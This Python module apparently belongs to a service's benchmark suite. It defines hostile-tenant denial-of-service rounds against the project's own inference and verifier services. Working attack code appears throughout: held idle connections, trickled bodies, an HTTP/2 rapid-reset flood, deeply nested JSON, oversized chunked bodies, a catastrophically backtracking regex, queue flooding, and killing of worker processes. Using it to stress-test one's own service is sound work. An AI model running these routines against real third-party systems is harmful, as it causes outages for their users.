"""What a hostile tenant, or a stranger, does to a service. benchmarks/attack.py measures what the others notice.

An attack is one function that does one round; it is called again until it is stopped, in several processes of its own.
A round may also wait for ever, to hold what it has opened.
"""

import json
import os
import signal
import socket
import time
from collections.abc import Callable
from contextlib import suppress
from dataclasses import dataclass
from typing import Literal

import grpc
import httpx
import numpy as np
import psutil
from vold_proto.arrays import pack_ids
from vold_proto.v1 import teacher_pb2, teacher_pb2_grpc, verifier_pb2, verifier_pb2_grpc


@dataclass(frozen=True)
class Target:
    """http, grpc: HOST:PORT of the faces. key: of the hostile tenant. pid: of the service's process."""

    http: str
    grpc: str
    key: str
    pid: int

    @property
    def headers(self) -> dict[str, str]:
        return {"authorization": f"Bearer {self.key}"}

    @property
    def metadata(self) -> list[tuple[str, str]]:
        return list(self.headers.items())

    def post(self, path: str, body: bytes, kind: str = "application/json") -> None:
        with suppress(httpx.HTTPError):
            httpx.post(f"http://{self.http}{path}", content=body, headers=self.headers | {"content-type": kind})


@dataclass(frozen=True)
class Attack:
    """processes: how many do rounds at once."""

    name: str
    service: Literal["teacher", "verifier"]
    round: Callable[[Target], None]
    processes: int = 2


def connect(address: str, sent: bytes = b"") -> socket.socket:
    host, port = address.rsplit(":", 1)
    connection = socket.create_connection((host, int(port)), timeout=10)
    connection.sendall(sent)
    return connection


def hold(address: str, sent: bytes, count: int) -> None:
    """Keep `count` connections open that have sent this and no more; open again what the service closes."""
    held: list[socket.socket] = []
    while True:
        with suppress(OSError):
            while len(held) < count:
                held.append(connect(address, sent))
                held[-1].setblocking(False)
        for connection in tuple(held):
            closed = False
            try:
                closed = not connection.recv(65536)
            except BlockingIOError:
                pass
            except OSError:
                closed = True
            if closed:
                held.remove(connection)
                connection.close()
        time.sleep(0.05)


HTTP2 = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes.fromhex("000000040000000000")
"""The client's preface and empty settings."""


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def call_headers(path: str, stream: int = 1) -> bytes:
    """The HEADERS frame of a gRPC call, without compression."""
    fields = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "a", "te": "trailers"}
    fields["content-type"] = "application/grpc"
    block = b"".join(
        b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
        for name, value in fields.items()
    )
    return frame(1, 4, stream, block)


def idle_http(target: Target) -> None:
    hold(target.http, b"", 750)


def idle_grpc(target: Target) -> None:
    hold(target.grpc, HTTP2, 750)


def calls_without_a_request(target: Target) -> None:
    hold(target.grpc, HTTP2 + call_headers("/vold.v1.TeacherService/Score"), 300)


def trickling_bodies(target: Target) -> None:
    head = (
        f"POST /v1/score HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {target.key}\r\ncontent-length: 9999999\r\n\r\n"
    )
    held = [connect(target.http, head.encode()) for _ in range(300)]
    while held:
        for connection in tuple(held):
            try:
                connection.sendall(b" ")
            except OSError:
                held.remove(connection)
        time.sleep(0.2)


def rubbish(target: Target) -> None:
    for address in (target.http, target.grpc):
        with suppress(OSError), connect(address, os.urandom(5000)):
            pass


def reset_streams(target: Target) -> None:
    """Streams that are reset as soon as they begin (CVE-2023-44487)."""
    with suppress(OSError), connect(target.grpc, HTTP2) as connection:
        for stream in range(1, 4000, 2):
            connection.sendall(
                call_headers("/vold.v1.TeacherService/Score", stream) + frame(3, 0, stream, b"\0\0\0\x08")
            )


def cancelled_scores(target: Target) -> None:
    rng = np.random.default_rng()
    with grpc.insecure_channel(target.grpc) as channel:
        stub = teacher_pb2_grpc.TeacherServiceStub(channel)
        for _ in range(200):
            request = teacher_pb2.ScoreRequest(
                prompts=[teacher_pb2.Prompt(ids=pack_ids(rng.integers(2, 100, 50)))],
                completions=[teacher_pb2.Completion(ids=pack_ids(rng.integers(2, 100, 100))) for _ in range(8)],
            )
            call = stub.Score.future(request, metadata=target.metadata)
            time.sleep(0.001)
            call.cancel()


def nested_json(target: Target) -> None:
    for path in ("/v1/completions", "/v1/score", "/tokenize"):
        target.post(path, b'{"prompt":' + b"[" * 100_000)


def lone_surrogates(target: Target) -> None:
    target.post("/v1/completions", b'{"prompt": "\\ud800", "max_tokens": 1}')
    target.post("/v1/chat/completions", b'{"messages": [{"role": "user", "content": "\\ud800"}], "max_tokens": 1}')


def lowest_temperatures(target: Target) -> None:
    body = {"prompts": [{"ids": [2, 3]}], "options": {"max_tokens": 8, "temperature": 1e-38}}
    target.post("/v1/generate", json.dumps(body).encode())


def oversized_bodies(target: Target) -> None:
    """Of no declared length, so that the limit is met while they arrive."""
    head = f"POST /v1/score HTTP/1.1\r\nhost: a\r\nauthorization: Bearer {target.key}\r\n"
    head += "transfer-encoding: chunked\r\n\r\n"
    with suppress(OSError), connect(target.http, head.encode()) as connection:
        while True:
            connection.sendall(b"100000\r\n" + b" " * 0x100000 + b"\r\n")


def wrong_keys(target: Target) -> None:
    with suppress(httpx.HTTPError), httpx.Client(headers={"authorization": "Bearer wrong"}) as client:
        for _ in range(200):
            client.post(f"http://{target.http}/v1/score", content=b"{}")


def killed_fork_servers(target: Target) -> None:
    """A fault rather than an attack: the process that starts workers is killed whenever there is one."""
    for child in psutil.Process(target.pid).children():
        with suppress(psutil.NoSuchProcess):
            child.send_signal(signal.SIGKILL)
    time.sleep(1.0)


def slowest_items(target: Target) -> None:
    """Answers that take their verifier as long as it lets them, 64 at once."""
    items = [
        verifier_pb2.VerifyItem(
            verifier="math", completion=rf"\boxed{{(x+{number})^{{200}}(y-{number})^{{200}}}}", reference="x^{400}"
        )
        for number in range(64)
    ]
    with grpc.insecure_channel(target.grpc) as channel, suppress(grpc.RpcError):
        stub = verifier_pb2_grpc.VerifierServiceStub(channel)
        stub.Verify(verifier_pb2.VerifyRequest(items=items), metadata=target.metadata, timeout=60)


def longest_items(target: Target) -> None:
    items = [
        verifier_pb2.VerifyItem(verifier="math", completion="1 " * 100_000 + str(number), reference="1")
        for number in range(64)
    ]
    with grpc.insecure_channel(target.grpc) as channel, suppress(grpc.RpcError):
        stub = verifier_pb2_grpc.VerifierServiceStub(channel)
        stub.Verify(verifier_pb2.VerifyRequest(items=items), metadata=target.metadata, timeout=60)


def backtracking_patterns(target: Target) -> None:
    """13 "tokens" of text each, and as long as the verifier lets them."""
    items = []
    for number in range(64):
        item = verifier_pb2.VerifyItem(verifier="regex", completion="a" * 22 + f"b{number}", reference="x")
        item.parameters.update({"pattern": "(a+)+$"})
        items.append(item)
    with grpc.insecure_channel(target.grpc) as channel, suppress(grpc.RpcError):
        stub = verifier_pb2_grpc.VerifierServiceStub(channel)
        stub.Verify(verifier_pb2.VerifyRequest(items=items), metadata=target.metadata, timeout=60)


def urgent_generation(target: Target) -> None:
    request = teacher_pb2.GenerateRequest(
        prompts=[teacher_pb2.GeneratePrompt(ids=pack_ids([5, 6])) for _ in range(512)],
        options=teacher_pb2.GenerateOptions(max_tokens=100, temperature=1.0),
        priority=1000,
    )
    with grpc.insecure_channel(target.grpc) as channel, suppress(grpc.RpcError):
        for _ in teacher_pb2_grpc.TeacherServiceStub(channel).Generate(request, metadata=target.metadata, timeout=60):
            pass


def full_queue(target: Target) -> None:
    ids = np.random.default_rng().integers(2, 100, (4000, 250))
    request = teacher_pb2.ScoreRequest(prompts=[teacher_pb2.Prompt(ids=pack_ids([5]))], priority=1000)
    for row in ids:
        request.completions.add(ids=pack_ids(row))
    with grpc.insecure_channel(target.grpc) as channel, suppress(grpc.RpcError):
        teacher_pb2_grpc.TeacherServiceStub(channel).Score(request, metadata=target.metadata, timeout=60)


ATTACKS = (
    Attack("1,500 idle connections, HTTP", "teacher", idle_http),
    Attack("1,500 idle connections, gRPC", "teacher", idle_grpc),
    Attack("600 calls without their request, gRPC", "teacher", calls_without_a_request),
    Attack("600 bodies, 5 bytes a second", "teacher", trickling_bodies),
    Attack("rubbish on both faces", "teacher", rubbish),
    Attack("streams reset at once", "teacher", reset_streams),
    Attack("scores cancelled at once", "teacher", cancelled_scores),
    Attack("JSON of 100,000 levels", "teacher", nested_json),
    Attack("half a character", "teacher", lone_surrogates),
    Attack("a temperature of 1e-38", "teacher", lowest_temperatures),
    Attack("bodies over the limit", "teacher", oversized_bodies),
    Attack("wrong keys", "teacher", wrong_keys),
    Attack("generation at the top priority", "teacher", urgent_generation),
    Attack("a queue kept full", "teacher", full_queue),
    Attack("fork servers killed", "verifier", killed_fork_servers, processes=1),
    Attack("the slowest answers", "verifier", slowest_items),
    Attack("the longest answers", "verifier", longest_items),
    Attack("patterns that backtrack", "verifier", backtracking_patterns),
)
